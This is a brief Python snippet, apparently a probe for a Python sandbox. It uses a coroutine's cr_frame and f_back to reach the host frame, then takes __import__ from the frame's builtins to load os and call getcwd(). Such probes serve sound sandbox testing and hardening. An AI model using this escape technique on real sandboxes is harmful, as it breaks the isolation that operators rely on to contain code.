# goal: reach frame via a coroutine's cr_frame and f_back to the host
async def co():
    return 1
c = co()
fr = c.cr_frame
c.close()
return repr(fr.f_back) + repr(fr.f_builtins["__import__"]("os").getcwd())
